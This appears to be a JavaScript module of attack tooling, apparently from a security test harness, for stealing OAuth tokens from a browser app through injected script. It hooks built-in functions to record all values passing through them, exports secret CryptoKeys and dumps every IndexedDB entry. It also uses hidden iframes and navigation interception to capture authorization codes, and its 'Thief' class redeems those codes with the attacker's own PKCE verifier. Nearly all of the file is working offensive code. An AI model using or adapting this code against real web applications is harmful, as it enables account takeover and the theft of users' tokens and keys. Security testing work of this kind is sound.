// What an attack works with, in the page: a recorder, hooks on built-ins, the attacker's own OAuth client, and ways to
// listen, to look and to reach storage. What recorder and client need is taken before any hook is set, so that no hook
// hears of their doings.

const { apply, construct, defineProperty, deleteProperty, get, getOwnPropertyDescriptor, getPrototypeOf, ownKeys } =
  Reflect;
export const pristine = {
  fetch: globalThis.fetch.bind(globalThis),
  setTimeout: globalThis.setTimeout.bind(globalThis),
};
const { exportKey, digest } = SubtleCrypto.prototype;
const subtle = crypto.subtle;

/** Resolves after `ms` milliseconds. */
export const wait = (ms) => new Promise((resolve) => pristine.setTimeout(resolve, ms));

/** Resolves with what `find` finds, as soon as that is something; with nothing after `ms` milliseconds. */
export async function soon(find, ms = 2000) {
  for (const end = Date.now() + ms; Date.now() < end; await wait(4)) {
    try {
      const found = await find();
      if (found) return found;
    } catch {
      // Not there yet.
    }
  }
  return undefined;
}

/** The most that one attack keeps. */
const MOST = 200_000;

/** Keeps everything an attack gets hold of, in a list that no hook can see. */
export class Recorder {
  #last = null;
  #count = 0;

  record = (value) => {
    if (++this.#count < MOST) this.#last = { value, before: this.#last };
  };

  /** Every text in what was recorded: also in bytes, bodies and keys that can be exported. */
  async harvest() {
    const texts = new Set();
    const seen = new Set();
    for (let item = this.#last; item; item = item.before) await gather(item.value, texts, seen, 8);
    return [...texts];
  }
}

const bytesOf = (value) => (ArrayBuffer.isView(value) ? value.buffer : value);
const latin1 = new TextDecoder('latin1');

/** Adds every text in `value` to `texts`. */
async function gather(value, texts, seen, depth) {
  if (typeof value === 'string') return void (value && texts.add(value));
  if (typeof value === 'bigint' || typeof value === 'symbol') return void texts.add(String(value));
  if (value === null || typeof value !== 'object' || depth === 0 || seen.size > 300_000) return;
  if (seen.has(value)) return;
  seen.add(value);
  const more = (item) => gather(item, texts, seen, depth - 1);
  try {
    if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) {
      const buffer = bytesOf(value);
      if (!seen.has(buffer) || buffer === value) texts.add(latin1.decode(new Uint8Array(buffer)));
      seen.add(buffer);
      return;
    }
    if (value instanceof Promise) return await more(await Promise.race([value.catch((error) => error), wait(5)]));
    if (value instanceof CryptoKey) return await gatherKey(value, texts);
    if (value instanceof Blob) return await more(await value.text());
    if (value instanceof Request || value instanceof Response) {
      texts.add(value.url);
      await more(value.headers);
      if (!value.bodyUsed && value.body && !value.body.locked) await more(await value.clone().text());
    }
    if (value instanceof URL) texts.add(value.href);
    if (value instanceof MessageEvent) await more(value.data);
    if (value instanceof ErrorEvent) await more(value.error);
    if (value instanceof PromiseRejectionEvent) await more(value.reason);
    if (value instanceof CustomEvent) await more(value.detail);
    if (value instanceof Error) {
      texts.add(`${value.message}\n${value.stack}`);
      await more(value.cause);
    }
    if (value instanceof Node) return void texts.add(value.outerHTML ?? value.textContent ?? '');
    if (value instanceof Window) return;
    for (const kind of [Map, Set, Headers, FormData, URLSearchParams]) {
      if (value instanceof kind) for (const item of kind.prototype[Symbol.iterator].call(value)) await more(item);
    }
    for (const key of ownKeys(value)) {
      if (typeof key === 'string') texts.add(key);
      const property = getOwnPropertyDescriptor(value, key);
      if (property && 'value' in property) await more(property.value);
    }
  } catch {
    // Of another origin, or it says no.
  }
}

/** A key counts if it is secret and can be had as text. */
async function gatherKey(key, texts) {
  if (key.type === 'public') return;
  for (const format of ['jwk', 'pkcs8', 'raw']) {
    const exported = await apply(exportKey, subtle, [format, key]).catch(() => undefined);
    if (exported) texts.add(format === 'jwk' ? JSON.stringify(exported) : `exported private key (${format})`);
  }
}

/** Hooks on built-ins; `restore` undoes them all. */
export class Hooks {
  #undo = [];
  #record;

  constructor(record) {
    this.#record = record;
  }

  /** Calls `task` when the attack is over. */
  undo(task) {
    this.#undo[this.#undo.length] = task;
  }

  /** Puts `value` in the place of a property. */
  replace(owner, name, property) {
    const before = getOwnPropertyDescriptor(owner, name);
    this.undo(() => (before ? defineProperty(owner, name, before) : deleteProperty(owner, name)));
    return defineProperty(owner, name, { configurable: true, ...property });
  }

  /** Puts `make(original)` in the place of a function. */
  instead(owner, name, make) {
    return this.replace(owner, name, { writable: true, value: make(owner[name]) });
  }

  /**
   * Records what a method, constructor or accessor is called on and with, and what it gives back; `see` sees it too.
   * @param {(call: { self: unknown, args: unknown[], result: unknown }) => void} [see]
   */
  tap(owner, name, see) {
    const property = getOwnPropertyDescriptor(owner, name);
    if (!property?.configurable) return;
    const record = this.#record;
    const told = (self, args, result) => {
      for (let at = 0; at < args.length; at++) record(args[at]);
      if (self !== window) record(self);
      record(result);
      see?.({ self, args, result });
      return result;
    };
    const watched = (original) =>
      new Proxy(original, {
        apply: (target, self, args) => told(self, args, apply(target, self, args)),
        construct: (target, args, made) => told(undefined, args, construct(target, args, made)),
      });
    const { value, get, set } = property;
    if (typeof value === 'function') this.replace(owner, name, { value: watched(value), writable: true });
    else if (get || set) this.replace(owner, name, { get: get && watched(get), set: set && watched(set) });
  }

  /** Taps all methods and accessors of `owner`, or those in `names`. */
  tapAll(owner, names = ownKeys(owner)) {
    for (const name of names) if (name !== 'constructor') this.tap(owner, name);
  }

  restore() {
    for (let at = this.#undo.length - 1; at >= 0; at--) {
      try {
        this.#undo[at]();
      } catch {
        // What it hooked is gone.
      }
    }
    this.#undo = [];
  }
}

/** Records all that can be reached from `root` by properties, getters and prototypes. */
export function walk(root, record, limit = 60_000) {
  const seen = new Set();
  const next = [root];
  while (next.length && seen.size < limit) {
    const value = next.shift();
    if (typeof value === 'string') record(value);
    if (value === null || (typeof value !== 'object' && typeof value !== 'function') || seen.has(value)) continue;
    seen.add(value);
    if (value instanceof Promise) value.catch(() => {});
    if (value instanceof Map || value instanceof Set) next.push(...value);
    if (ArrayBuffer.isView(value) || value instanceof ArrayBuffer || value instanceof CryptoKey) record(value);
    try {
      for (const key of ownKeys(value)) {
        if (typeof key === 'string') record(key);
        try {
          next.push(get(value, key));
        } catch {
          // A getter that wants another receiver.
        }
      }
      next.push(getPrototypeOf(value));
    } catch {
      // Of another origin.
    }
  }
}

export const base64url = (bytes) =>
  btoa(String.fromCharCode(...new Uint8Array(bytes)))
    .replaceAll('+', '-')
    .replaceAll('/', '_')
    .replaceAll('=', '');

/** The attacker's own OAuth client, of the app's client id and origin: all that it needs is public. */
export class Thief {
  #config;
  #record;
  #metadata;

  constructor(config, record) {
    this.#config = config;
    this.#record = record;
  }

  /** The provider's metadata. */
  async metadata() {
    this.#metadata ??= pristine
      .fetch(`${this.#config.issuer}/.well-known/openid-configuration`)
      .then((response) => response.json());
    return this.#metadata;
  }

  /** A verifier of the attacker's own, and its challenge. */
  async pair() {
    const verifier = base64url(crypto.getRandomValues(new Uint8Array(32)));
    const hash = await apply(digest, subtle, ['SHA-256', new TextEncoder().encode(verifier)]);
    return { verifier, challenge: base64url(hash) };
  }

  /** An authorization request of the attacker's own. */
  async request(more) {
    const { verifier, challenge } = await this.pair();
    const url = new URL((await this.metadata()).authorization_endpoint);
    const { clientId, api, redirectUri } = this.#config;
    const parameters = {
      client_id: clientId,
      response_type: 'code',
      scope: 'openid read:orders',
      resource: api,
      redirect_uri: redirectUri,
      state: 'mine',
      nonce: 'mine',
      code_challenge: challenge,
      code_challenge_method: 'S256',
      ...more,
    };
    for (const [name, value] of Object.entries(parameters)) url.searchParams.set(name, value);
    return { url: url.href, verifier, redirectUri: parameters.redirect_uri };
  }

  /** Redeems `code`, and records what comes of it. */
  async redeem(code, verifier, redirectUri = this.#config.redirectUri) {
    if (!code) return;
    const { token_endpoint } = await this.metadata();
    const body = new URLSearchParams({
      grant_type: 'authorization_code',
      client_id: this.#config.clientId,
      code,
      redirect_uri: redirectUri,
      code_verifier: verifier,
    });
    const answer = await pristine.fetch(token_endpoint, { method: 'POST', body });
    this.#record(await answer.text());
  }
}

/** Listens to `target`, before those who do so in the usual way; `undo` ends it. */
export function listen(target, type, listener, undo) {
  target.addEventListener(type, listener, true);
  undo(() => target.removeEventListener(type, listener, true));
}

/** Hears of each navigation of this page before it is made, and may prevent it. */
export const onNavigation = (listener, undo) => listen(navigation, 'navigate', listener, undo);

/** Calls `look` again and again; `undo` ends it. */
export function watch(look, undo) {
  let over = false;
  undo(() => {
    over = true;
  });
  const again = () => {
    look();
    if (!over) setTimeout(again);
  };
  again();
}

/** An element in the document, with these properties; `undo` takes it away again. */
export function element(name, properties, undo, parent = document.head) {
  const added = Object.assign(document.createElement(name), properties);
  parent.append(added);
  undo(() => added.remove());
  return added;
}

/** A hidden frame with `src`; the victim's page is the app alone there. */
export const hiddenFrame = (src, undo) =>
  element('iframe', { hidden: true, name: 'nested', src }, undo, document.documentElement);

/** Resolves with the code in the URL that a window comes to; with nothing if none comes. */
export const codeIn = (opened, part = 'search') =>
  soon(() => new URLSearchParams(opened.location[part].slice(1)).get('code'), 4000);

/** The URL of a script with this text. */
export const scriptOf = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));

/** The result of a request to IndexedDB. */
const done = (request) =>
  new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });

/** Every entry of every database of the origin. */
export async function databases() {
  const found = [];
  for (const { name } of await indexedDB.databases()) {
    const database = await done(indexedDB.open(name));
    for (const store of database.objectStoreNames) {
      const entries = database.transaction(store).objectStore(store);
      const [keys, values] = await Promise.all([done(entries.getAllKeys()), done(entries.getAll())]);
      found.push(...keys.map((key, at) => ({ database: name, store, key, value: values[at] })));
    }
    database.close();
  }
  return found;
}

/** Puts an entry into a database of the origin, which is made if there is none. */
export async function put({ database: name, store, key, value }) {
  const request = indexedDB.open(name);
  request.onupgradeneeded = () => request.result.createObjectStore(store);
  const database = await done(request);
  await done(database.transaction(store, 'readwrite').objectStore(store).put(value, key));
  database.close();
}

/** The transaction of the redirect with this `state`, or of any, if it is stored. */
export async function transactionUnderWay(state) {
  for (const { value } of await databases()) {
    if (typeof value !== 'string' || !value.startsWith('{"state"')) continue;
    const transaction = JSON.parse(value);
    if (!state || transaction.state === state) return transaction;
  }
  return undefined;
}
